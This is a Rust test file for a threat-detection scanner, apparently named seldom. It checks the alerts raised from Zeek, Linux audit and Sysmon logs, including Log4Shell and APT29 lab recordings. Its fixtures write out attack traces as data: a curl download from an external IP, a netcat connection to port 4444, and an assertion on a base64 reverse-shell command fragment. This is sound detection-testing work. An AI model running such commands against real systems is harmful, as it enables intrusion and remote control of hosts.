//! More telemetry in: Linux audit (raw and auoms) and Zeek, from the real
//! corpus, through `seldom scan` as a user runs it.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly on broken fixtures

mod common;
#[path = "../../seldom-detect/tests/standards/mod.rs"]
mod standards;

use common::{assert_success, corpus, json_lines, read_json, seldom};
use serde_json::Value;

#[test]
fn apt29_zeek_logs_give_dns_attribution_and_network_only_alerts() {
    let Some(corpus) = corpus() else { return };
    // The lab's victims are 10.0.0.0/8; its C2 (192.168.0.4, .5) is left external.
    let output = seldom()
        .arg("scan")
        .arg(corpus.join("otrf/datasets/compound/apt29"))
        .args(["--activation-days", "0", "--format", "jsonl"])
        .args([
            "--internal-networks",
            "10.0.0.0/8,127.0.0.0/8,169.254.0.0/16,224.0.0.0/4,fe80::/10,ff00::/8",
        ])
        .output()
        .unwrap();
    assert_success(&output);
    let alerts = json_lines(&output.stdout);
    assert!(!alerts.is_empty());
    assert!(
        alerts
            .iter()
            .all(|a| a["variation"] == "host-rare-external-host" && a["platform"] == "network")
    );
    assert!(alerts.iter().all(|a| {
        a["explanation"]
            .as_str()
            .unwrap()
            .contains("network sensor")
    }));
    // The C2 reached straight by address.
    assert!(
        alerts
            .iter()
            .any(|a| a["destination"]["ip"] == "192.168.0.4" && a["host"] == "10.0.1.4")
    );
    // Names from Zeek's dns.log key the connections that followed them.
    let attributed = alerts
        .iter()
        .find(|a| a["destination"]["forward_name"] == "login.live.com")
        .expect("a DNS-attributed alert");
    assert_eq!(attributed["destination"]["key"]["value"], "live.com");
}

#[test]
fn zeek_tsv_and_audit_files_are_read() {
    let Some(corpus) = corpus() else { return };
    let stats_file = tempfile::NamedTempFile::new().unwrap();
    let output = seldom()
        .arg("scan")
        .arg(corpus.join("otrf/datasets/compound/LSASS_campaign_01/metasploit_logonpasswords_lsass_memory_dump_zeek_logs.zip"))
        .arg(corpus.join("otrf/datasets/atomic/linux/discovery/host/sh_arp_cache.zip"))
        .args(["--events", "--stats"])
        .arg(stats_file.path())
        .output()
        .unwrap();
    assert!(output.status.success());
    let events = json_lines(&output.stdout);
    let stats: Value = read_json(stats_file.path());
    assert!(
        stats["events_by_format"]["zeek"]["network_connection"]
            .as_u64()
            .unwrap()
            > 0,
        "{stats}"
    );
    assert!(
        stats["events_by_format"]["zeek"]["dns_query"]
            .as_u64()
            .unwrap()
            > 0,
        "{stats}"
    );
    let arp = events
        .iter()
        .find(|e| e["format"] == "audit" && e["image"] == "/usr/sbin/arp")
        .expect("the arp execve from the raw audit log");
    assert_eq!(arp["command_line"], "arp -a");
    assert_eq!(arp["platform"], "linux");
    assert_eq!(stats["skipped"], serde_json::json!({}), "{stats}");
}

#[test]
fn the_log4shell_auoms_recording_gives_the_reverse_shell_process() {
    let Some(corpus) = corpus() else { return };
    let output = seldom()
        .arg("scan")
        .arg(corpus.join("otrf/datasets/compound/Log4Shell/syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip"))
        .arg("--events")
        .output()
        .unwrap();
    assert!(output.status.success());
    let events = json_lines(&output.stdout);
    // java (tomcat, pid 1340) starts bash with the base64 reverse shell to 192.168.2.6.
    let bash = events
        .iter()
        .find(|e| e["image"] == "/bin/bash" && e["parent"]["pid"] == 1340)
        .expect("bash started by the tomcat java process");
    assert_eq!(bash["format"], "auoms");
    assert_eq!(bash["host"], "ubuntu5");
    assert!(
        bash["command_line"]
            .as_str()
            .unwrap()
            .contains("{base64,-d}|{bash,-i}")
    );
}

/// The auoms recording holds only AUOMS_EXECVE records (no connect); the same
/// attack's connections are in its Sysmon for Linux twin beside it. Read
/// together, the folder gives bash and java reaching 192.168.2.6 with their
/// images, and the processes that auoms saw start.
#[test]
fn the_log4shell_folder_gives_bash_and_java_connections_to_the_attacker() {
    let Some(corpus) = corpus() else { return };
    let output = seldom()
        .arg("scan")
        .arg(corpus.join("otrf/datasets/compound/Log4Shell"))
        .arg("--events")
        .output()
        .unwrap();
    assert!(output.status.success());
    let events = json_lines(&output.stdout);
    let to_attacker: Vec<(String, u64)> = events
        .iter()
        .filter(|e| e["kind"] == "network_connection" && e["destination_ip"] == "192.168.2.6")
        .map(|e| {
            let image = e["image"].as_str().unwrap();
            (
                image.rsplit('/').next().unwrap().to_owned(),
                e["destination_port"].as_u64().unwrap(),
            )
        })
        .collect();
    assert!(
        to_attacker.contains(&("bash".to_owned(), 443)),
        "{to_attacker:?}"
    );
    assert!(
        to_attacker.contains(&("java".to_owned(), 1389)),
        "{to_attacker:?}"
    );
    assert!(
        events
            .iter()
            .any(|e| e["format"] == "auoms" && e["kind"] == "process_start")
    );
}

/// A process start and its connection to a rare destination: one alert.
fn msbuild_alert_input() -> String {
    let common = r#""Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WS1""#;
    [
        format!(r#"{{"EventID":1,{common},"UtcTime":"2024-01-01 00:00:01.000","ProcessGuid":"{{cmd}}","ProcessId":"10","Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c b.cmd"}}"#),
        format!(r#"{{"EventID":1,{common},"UtcTime":"2024-01-01 00:00:02.000","ProcessGuid":"{{mb}}","ProcessId":"11","Image":"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe","OriginalFileName":"MSBuild.exe","CommandLine":"MSBuild.exe x.xml","ParentProcessGuid":"{{cmd}}","ParentProcessId":"10"}}"#),
        format!(r#"{{"EventID":3,{common},"UtcTime":"2024-01-01 00:00:03.000","ProcessGuid":"{{mb}}","ProcessId":"11","Image":"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe","DestinationIp":"45.1.2.3","DestinationPort":"443","Protocol":"tcp","Initiated":"true"}}"#),
    ]
    .join("\n")
}

fn render_as(format: &str) -> Value {
    let output = seldom()
        .args(["scan", "-", "--activation-days", "0", "--format", format])
        .write_stdin(msbuild_alert_input())
        .output()
        .unwrap();
    assert_success(&output);
    let mut lines = json_lines(&output.stdout);
    assert_eq!(lines.len(), 1);
    lines.remove(0)
}

/// Required by ECS (`@timestamp`, `ecs.version`) and by the Elastic Security
/// alert schema (`kibana.alert.*` as the detection engine writes them).
#[test]
fn ecs_alerts_carry_the_required_fields() {
    let doc = render_as("ecs");
    for key in [
        "@timestamp",
        "kibana.alert.uuid",
        "kibana.alert.rule.name",
        "kibana.alert.rule.uuid",
        "kibana.alert.severity",
        "kibana.alert.risk_score",
        "kibana.alert.status",
        "kibana.alert.workflow_status",
        "kibana.alert.original_time",
        "kibana.alert.reason",
    ] {
        assert!(!doc[key].is_null(), "ECS alert without {key}: {doc}");
    }
    assert_eq!(doc["ecs"]["version"], "8.11.0");
    assert_eq!(doc["event"]["kind"], "alert");
    assert_eq!(doc["kibana.alert.severity"], "high");
    assert_eq!(doc["kibana.alert.rule.rule_id"], "msbuild");
    // ECS's flat threat fields, and Kibana's per-tactic structure.
    assert_eq!(doc["threat"]["framework"], "MITRE ATT&CK");
    assert_eq!(
        doc["threat"]["tactic"]["id"],
        serde_json::json!(["TA0011", "TA0005"])
    );
    assert_eq!(
        doc["threat"]["technique"]["subtechnique"]["id"],
        serde_json::json!(["T1127.001"])
    );
    let threat = doc["kibana.alert.rule.threat"].as_array().unwrap();
    assert!(
        threat
            .iter()
            .all(|t| t["framework"] == "MITRE ATT&CK" && t["tactic"]["id"].is_string())
    );
    let evasion = threat
        .iter()
        .find(|t| t["tactic"]["id"] == "TA0005")
        .unwrap();
    assert_eq!(evasion["technique"][0]["id"], "T1127");
    assert_eq!(
        evasion["technique"][0]["subtechnique"][0]["id"],
        "T1127.001"
    );
    assert_eq!(
        doc["process"]["parent"]["executable"],
        "C:\\Windows\\System32\\cmd.exe"
    );
    assert_eq!(doc["destination"]["ip"], "45.1.2.3");
    assert_eq!(doc["host"]["name"], "ws1");
}

/// Required by OCSF 1.1 Detection Finding (class 2004): activity_id,
/// category_uid, class_uid, finding_info (uid, title), metadata (product,
/// version), severity_id, time, type_uid.
#[test]
fn ocsf_findings_carry_the_required_attributes() {
    let doc = render_as("ocsf");
    for key in [
        "activity_id",
        "category_uid",
        "class_uid",
        "severity_id",
        "time",
        "type_uid",
    ] {
        assert!(
            doc[key].is_u64(),
            "OCSF finding without integer {key}: {doc}"
        );
    }
    assert_eq!(doc["class_uid"], 2004);
    assert_eq!(doc["category_uid"], 2);
    assert_eq!(doc["type_uid"], 200401);
    assert_eq!(doc["severity_id"], 4);
    assert_eq!(doc["time"], 1_704_067_203_000u64);
    assert!(doc["finding_info"]["uid"].is_string() && doc["finding_info"]["title"].is_string());
    assert_eq!(doc["metadata"]["version"], "1.1.0");
    assert_eq!(doc["metadata"]["product"]["name"], "seldom");
    let attacks = doc["finding_info"]["attacks"].as_array().unwrap();
    assert!(
        attacks
            .iter()
            .any(|a| a["sub_technique"]["uid"] == "T1127.001")
    );
    let evidence = &doc["evidences"][0];
    assert_eq!(evidence["process"]["file"]["name"], "MSBuild.exe");
    assert_eq!(
        evidence["process"]["parent_process"]["file"]["path"],
        "C:\\Windows\\System32\\cmd.exe"
    );
    assert_eq!(evidence["dst_endpoint"]["ip"], "45.1.2.3");
}

/// Audit data alone raises the curl and UNIX LOLBIN rows.
#[test]
fn audit_records_raise_the_curl_and_unix_lolbin_rows() {
    let records = [
        r#"node=web01 type=SYSCALL msg=audit(1704067200.000:10): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=500 uid=0 exe="/usr/bin/curl""#,
        r#"node=web01 type=EXECVE msg=audit(1704067200.000:10): argc=2 a0="curl" a1="http://45.1.2.3/x""#,
        r#"node=web01 type=EOE msg=audit(1704067200.000:10): "#,
        r#"node=web01 type=SYSCALL msg=audit(1704067201.000:11): arch=c000003e syscall=42 success=no exit=-115 pid=500 exe="/usr/bin/curl""#,
        r#"node=web01 type=SOCKADDR msg=audit(1704067201.000:11): saddr=020000502D0102030000000000000000"#,
        r#"node=web01 type=SYSCALL msg=audit(1704067202.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=501 uid=0 exe="/usr/bin/nc.openbsd""#,
        r#"node=web01 type=PROCTITLE msg=audit(1704067202.000:12): proctitle=6E630034352E312E322E340034343434"#,
        r#"node=web01 type=SYSCALL msg=audit(1704067203.000:13): arch=c000003e syscall=42 success=yes exit=0 pid=501 exe="/usr/bin/nc.openbsd""#,
        r#"node=web01 type=SOCKADDR msg=audit(1704067203.000:13): saddr=0200115C2D0102040000000000000000"#,
    ]
    .join("\n");
    let output = seldom()
        .args(["scan", "-", "--activation-days", "0", "--format", "jsonl"])
        .write_stdin(records)
        .output()
        .unwrap();
    assert_success(&output);
    let alerts = json_lines(&output.stdout);
    let summary: Vec<(String, String, String)> = alerts
        .iter()
        .map(|a| {
            (
                a["variation"].as_str().unwrap().to_owned(),
                a["destination"]["ip"].as_str().unwrap().to_owned(),
                a["process"]["command_line"]
                    .as_str()
                    .unwrap_or("")
                    .to_owned(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (
                "curl".to_owned(),
                "45.1.2.3".to_owned(),
                "curl http://45.1.2.3/x".to_owned()
            ),
            (
                "unix-lolbin".to_owned(),
                "45.1.2.4".to_owned(),
                "nc 45.1.2.4 4444".to_owned()
            ),
        ]
    );
    assert!(
        alerts
            .iter()
            .all(|a| a["host"] == "web01" && a["platform"] == "linux")
    );
}

/// Every alert `seldom scan` writes, on Windows, Linux and network input,
/// passes the schemas' own files (../shared/standards).
#[test]
fn every_scanned_alert_passes_ecs_and_ocsf() {
    let Some(dir) = standards::standards_dir() else {
        return;
    };
    let ecs = standards::ecs::Ecs::load(&dir);
    let ocsf = standards::ocsf::Ocsf::load(&dir);
    let audit = [
        r#"node=web01 type=SYSCALL msg=audit(1704067202.000:12): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid=501 uid=0 exe="/usr/bin/ruby3.1""#,
        r#"node=web01 type=SYSCALL msg=audit(1704067203.000:13): arch=c000003e syscall=42 success=yes exit=0 pid=501 exe="/usr/bin/ruby3.1""#,
        r#"node=web01 type=SOCKADDR msg=audit(1704067203.000:13): saddr=0200115C2D0102040000000000000000"#,
    ]
    .join("\n");
    let mut checked = 0;
    for input in [msbuild_alert_input(), audit] {
        for format in ["ecs", "ocsf"] {
            let output = seldom()
                .args(["scan", "-", "--activation-days", "0", "--format", format])
                .write_stdin(input.clone())
                .output()
                .unwrap();
            assert_success(&output);
            for doc in json_lines(&output.stdout) {
                let errors = match format {
                    "ecs" => ecs.validate(&doc, &["kibana.alert", "seldom"]),
                    _ => ocsf.validate("events/findings/detection_finding.json", &doc),
                };
                assert!(errors.is_empty(), "{format}: {errors:#?}\n{doc:#}");
                checked += 1;
            }
        }
    }
    assert_eq!(checked, 4);
}

#[test]
fn raw_audit_records_take_their_host_from_audit_host_or_the_file_name() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("srv-7.audit.log");
    std::fs::write(
        &log,
        concat!(
            "type=SYSCALL msg=audit(1652292620.465:245754): arch=c000003e syscall=59 success=yes exit=0 ppid=1590 pid=17806 auid=0 uid=0 comm=\"curl\" exe=\"/usr/bin/curl\" key=(null)\n",
            "type=EXECVE msg=audit(1652292620.465:245754): argc=2 a0=\"curl\" a1=\"http://198.18.0.1/x\"\n",
            "type=EOE msg=audit(1652292620.465:245754):\n",
        ),
    )
    .unwrap();
    let hosts = |extra: &[&str]| -> Vec<String> {
        let output = seldom()
            .arg("scan")
            .arg(&log)
            .arg("--events")
            .args(extra)
            .output()
            .unwrap();
        assert!(output.status.success());
        json_lines(&output.stdout)
            .iter()
            .map(|e| e["host"].as_str().unwrap().to_owned())
            .collect()
    };
    assert_eq!(hosts(&[]), ["srv-7"]);
    assert_eq!(hosts(&["--audit-host", "WEB01.corp.example"]), ["web01"]);
}
